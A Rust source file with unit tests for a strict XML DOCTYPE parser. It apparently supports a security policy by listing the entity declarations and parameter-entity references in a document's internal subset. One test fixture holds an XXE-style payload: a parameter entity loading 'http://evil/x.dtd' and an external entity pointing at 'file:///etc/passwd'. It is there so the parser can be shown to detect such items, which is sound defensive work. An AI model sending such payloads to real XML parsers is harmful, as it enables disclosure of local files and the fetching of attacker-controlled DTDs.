//! A small strict parser of `<!DOCTYPE …>` declarations, written for the policy rather
//! than for validation: it finds the name, the external identifier and the internal
//! subset (with the entity declarations and parameter-entity references in it), and
//! refuses whatever it cannot read with certainty.

use std::ops::Range;

/// A DOCTYPE declaration that was read completely.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Doctype<'t> {
    /// The root element name it announces.
    pub(crate) name: &'t str,
    /// `PUBLIC "…" "…"` or `SYSTEM "…"`.
    pub(crate) external: Option<ExternalId<'t>>,
    /// The offsets of `[` and `]` of an internal subset.
    pub(crate) subset: Option<Range<usize>>,
    /// What the internal subset declares or references.
    pub(crate) subset_items: Vec<SubsetItem<'t>>,
    /// The offset just after the closing `>`.
    pub(crate) end: usize,
}

/// An external identifier: an optional public id and a system literal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct ExternalId<'t> {
    /// The public identifier of `PUBLIC`.
    pub(crate) public: Option<&'t str>,
    /// The system literal, without its quotes.
    pub(crate) system: &'t str,
    /// Offset of the system literal's first character.
    pub(crate) system_at: usize,
}

/// Something in an internal subset that the policy names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum SubsetItem<'t> {
    /// `<!ENTITY name …>` or `<!ENTITY % name …>`.
    Entity {
        /// Offset of `<!ENTITY`.
        at: usize,
        /// The entity name (empty when it could not be read).
        name: &'t str,
        /// `true` for a parameter entity (`%`).
        parameter: bool,
        /// `true` when it names a `SYSTEM` or `PUBLIC` resource.
        external: bool,
    },
    /// A parameter-entity reference `%name;` outside a literal.
    ParameterReference {
        /// Offset of `%`.
        at: usize,
        /// The entity name.
        name: &'t str,
    },
}

/// Why a declaration could not be read, and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Unparsed {
    /// Offset of the first byte that made no sense.
    pub(crate) at: usize,
    /// What was expected there.
    pub(crate) message: String,
}

/// Parses the declaration that starts at `start` in `text`.
pub(crate) fn parse(text: &str, start: usize) -> Result<Doctype<'_>, Unparsed> {
    let mut cursor = Cursor { text, at: start };
    cursor.expect("<!DOCTYPE")?;
    cursor.spaces_required("the root element name")?;
    let name = cursor.name("the root element name")?;
    let spaced = cursor.spaces();
    let external = if cursor.rest().starts_with("SYSTEM") || cursor.rest().starts_with("PUBLIC") {
        if !spaced {
            return Err(cursor.unparsed("a space before the external identifier"));
        }
        let external = cursor.external_id()?;
        cursor.spaces();
        Some(external)
    } else {
        None
    };
    let (subset, subset_items) = if cursor.rest().starts_with('[') {
        let open = cursor.at;
        cursor.at += 1;
        let items = cursor.subset()?;
        let close = cursor.at;
        cursor.at += 1;
        cursor.spaces();
        (Some(open..close), items)
    } else {
        (None, Vec::new())
    };
    cursor.expect(">")?;
    Ok(Doctype {
        name,
        external,
        subset,
        subset_items,
        end: cursor.at,
    })
}

struct Cursor<'t> {
    text: &'t str,
    at: usize,
}

impl<'t> Cursor<'t> {
    fn rest(&self) -> &'t str {
        self.text.get(self.at..).unwrap_or_default()
    }

    fn unparsed(&self, expected: &str) -> Unparsed {
        let found = match self.rest().chars().next() {
            Some(c) => format!("`{}`", c.escape_debug()),
            None => "the end of the document".to_owned(),
        };
        Unparsed {
            at: self.at,
            message: format!("expected {expected}, found {found}"),
        }
    }

    fn expect(&mut self, literal: &str) -> Result<(), Unparsed> {
        if self.rest().starts_with(literal) {
            self.at += literal.len();
            Ok(())
        } else {
            Err(self.unparsed(&format!("`{literal}`")))
        }
    }

    /// Skips XML white space; `true` if there was any.
    fn spaces(&mut self) -> bool {
        let skipped = self
            .rest()
            .bytes()
            .take_while(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
            .count();
        self.at += skipped;
        skipped > 0
    }

    fn spaces_required(&mut self, before: &str) -> Result<(), Unparsed> {
        if self.spaces() {
            Ok(())
        } else {
            Err(self.unparsed(&format!("a space before {before}")))
        }
    }

    /// An XML Name (letters, digits, `_ : - .`, and non-ASCII letters).
    fn name(&mut self, what: &str) -> Result<&'t str, Unparsed> {
        let rest = self.rest();
        let mut length = 0;
        for (i, c) in rest.char_indices() {
            let fits = if i == 0 {
                c.is_alphabetic() || c == '_' || c == ':'
            } else {
                c.is_alphanumeric() || matches!(c, '_' | ':' | '-' | '.' | '\u{B7}')
            };
            if !fits {
                break;
            }
            length = i + c.len_utf8();
        }
        if length == 0 {
            return Err(self.unparsed(what));
        }
        self.at += length;
        Ok(&rest[..length])
    }

    /// `SYSTEM "…"` or `PUBLIC "…" "…"`.
    fn external_id(&mut self) -> Result<ExternalId<'t>, Unparsed> {
        let public = if self.rest().starts_with("PUBLIC") {
            self.at += "PUBLIC".len();
            self.spaces_required("the public identifier")?;
            let (public, at) = self.literal("a quoted public identifier")?;
            if let Some(bad) = public.char_indices().find(|(_, c)| !is_pubid_char(*c)) {
                return Err(Unparsed {
                    at: at + bad.0,
                    message: format!(
                        "`{}` is not allowed in a public identifier",
                        bad.1.escape_debug()
                    ),
                });
            }
            self.spaces_required("the system identifier")?;
            Some(public)
        } else {
            self.expect("SYSTEM")?;
            self.spaces_required("the system identifier")?;
            None
        };
        let (system, system_at) = self.literal("a quoted system identifier")?;
        Ok(ExternalId {
            public,
            system,
            system_at,
        })
    }

    /// A literal in single or double quotes: its text and the offset of that text.
    fn literal(&mut self, what: &str) -> Result<(&'t str, usize), Unparsed> {
        let rest = self.rest();
        let quote = match rest.chars().next() {
            Some(q @ ('"' | '\'')) => q,
            _ => return Err(self.unparsed(what)),
        };
        let Some(length) = rest[1..].find(quote) else {
            return Err(Unparsed {
                at: self.at,
                message: format!("the literal opened here with {quote} is never closed"),
            });
        };
        let start = self.at + 1;
        self.at = start + length + 1;
        Ok((&rest[1..=length], start))
    }

    /// The internal subset after `[`, up to (not past) its `]`: quoted literals,
    /// comments and processing instructions are skipped whole, so a `]` or `>` inside
    /// them ends nothing.
    fn subset(&mut self) -> Result<Vec<SubsetItem<'t>>, Unparsed> {
        let mut items = Vec::new();
        loop {
            let rest = self.rest();
            let Some(first) = rest.chars().next() else {
                return Err(self.unparsed("`]` closing the internal subset"));
            };
            match first {
                ']' => return Ok(items),
                '"' | '\'' => {
                    self.literal("a literal")?;
                }
                '<' if rest.starts_with("<!--") => self.skip_past("-->", "a comment")?,
                '<' if rest.starts_with("<?") => {
                    self.skip_past("?>", "a processing instruction")?
                }
                '<' if rest.starts_with("<!ENTITY") => items.push(self.entity()),
                '%' => {
                    let at = self.at;
                    self.at += 1;
                    if let Ok(name) = self.name("a parameter-entity name") {
                        if self.rest().starts_with(';') {
                            self.at += 1;
                        }
                        items.push(SubsetItem::ParameterReference { at, name });
                    }
                }
                c => self.at += c.len_utf8(),
            }
        }
    }

    fn skip_past(&mut self, end: &str, what: &str) -> Result<(), Unparsed> {
        match self.rest().find(end) {
            Some(i) => {
                self.at += i + end.len();
                Ok(())
            }
            None => Err(Unparsed {
                at: self.at,
                message: format!("{what} opened here is never closed"),
            }),
        }
    }

    /// The start of an entity declaration; its literals are left for [`Self::subset`].
    fn entity(&mut self) -> SubsetItem<'t> {
        let at = self.at;
        self.at += "<!ENTITY".len();
        self.spaces();
        let parameter = self.rest().starts_with('%');
        if parameter {
            self.at += 1;
            self.spaces();
        }
        let name = self.name("an entity name").unwrap_or_default();
        self.spaces();
        let external = self.rest().starts_with("SYSTEM") || self.rest().starts_with("PUBLIC");
        SubsetItem::Entity {
            at,
            name,
            parameter,
            external,
        }
    }
}

/// PubidChar of XML 1.0 (the single quote is excluded by the literal's own quoting).
fn is_pubid_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || " \r\n-'()+,./:=?;!*#@$_%".contains(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doctype(text: &str) -> Doctype<'_> {
        parse(text, 0).unwrap_or_else(|e| panic!("{text:?}: {e:?}"))
    }

    fn unparsed(text: &str) -> Unparsed {
        parse(text, 0).expect_err(text)
    }

    #[test]
    fn the_sailpoint_header_in_every_spelling() {
        for text in [
            r#"<!DOCTYPE Application PUBLIC "sailpoint.dtd" "sailpoint.dtd">"#,
            "<!DOCTYPE Application PUBLIC 'sailpoint.dtd' 'sailpoint.dtd' >",
            "<!DOCTYPE Application\r\n  PUBLIC \"sailpoint.dtd\"\r\n  'sailpoint.dtd'>",
        ] {
            let d = doctype(text);
            assert_eq!(d.name, "Application");
            let external = d.external.unwrap();
            assert_eq!(
                (external.public, external.system),
                (Some("sailpoint.dtd"), "sailpoint.dtd")
            );
            assert_eq!(&text[external.system_at..][..13], "sailpoint.dtd");
            assert_eq!((d.subset, d.end), (None, text.len()));
        }
        let d = doctype("<!DOCTYPE sailpoint SYSTEM \"sailpoint.dtd\">");
        assert_eq!(d.external.unwrap().public, None);
        assert_eq!(doctype("<!DOCTYPE Form>").external, None);
    }

    #[test]
    fn brackets_and_quotes_inside_literals_end_nothing() {
        let d = doctype("<!DOCTYPE a SYSTEM \"x[y]>z.dtd\">");
        assert_eq!(d.external.unwrap().system, "x[y]>z.dtd");
        assert_eq!(d.subset, None);
        let text = "<!DOCTYPE a [<!-- ] > --><!ENTITY e \"]>\"><?pi ]>?>]>";
        let d = doctype(text);
        assert_eq!(d.end, text.len());
        assert_eq!(d.subset, Some(12..text.len() - 2));
        assert!(matches!(
            d.subset_items[..],
            [SubsetItem::Entity {
                name: "e",
                parameter: false,
                external: false,
                ..
            }]
        ));
    }

    #[test]
    fn entities_and_parameter_references_are_listed() {
        let text = "<!DOCTYPE a [\n<!ENTITY % dtd SYSTEM \"http://evil/x.dtd\">\n%dtd;\n<!ENTITY x PUBLIC \"p\" \"file:///etc/passwd\">]>";
        let items = doctype(text).subset_items;
        assert_eq!(items.len(), 3, "{items:?}");
        assert!(matches!(
            items[0],
            SubsetItem::Entity {
                name: "dtd",
                parameter: true,
                external: true,
                at: 14
            }
        ));
        assert!(matches!(
            items[1],
            SubsetItem::ParameterReference { name: "dtd", .. }
        ));
        assert!(matches!(
            items[2],
            SubsetItem::Entity {
                name: "x",
                parameter: false,
                external: true,
                ..
            }
        ));
    }

    #[test]
    fn what_cannot_be_read_is_refused_where_it_stops() {
        assert_eq!(unparsed("<!DOCTYPEa>").at, 9);
        assert_eq!(unparsed("<!DOCTYPE a SYSTEM>").at, 18);
        assert_eq!(unparsed("<!DOCTYPE a PUBLIC \"p\">").at, 22);
        assert_eq!(unparsed("<!DOCTYPE a SYSTEM \"x.dtd>").at, 19);
        assert_eq!(unparsed("<!DOCTYPE a PUBLIC \"p{\" \"s\">").at, 21);
        assert_eq!(unparsed("<!DOCTYPE a [<!ENTITY x \"y\">").at, 28);
        assert_eq!(unparsed("<!DOCTYPE a [<!-- ]>").at, 13);
        assert_eq!(unparsed("<!DOCTYPE a \"x\">").at, 12);
        assert_eq!(unparsed("<!doctype a>").at, 0);
        assert_eq!(unparsed("<!DOCTYPE a SYSTEM 'x' junk>").at, 23);
        assert!(unparsed("<!DOCTYPE a SYSTEM 'x' junk>")
            .message
            .contains("expected `>`"));
    }
}
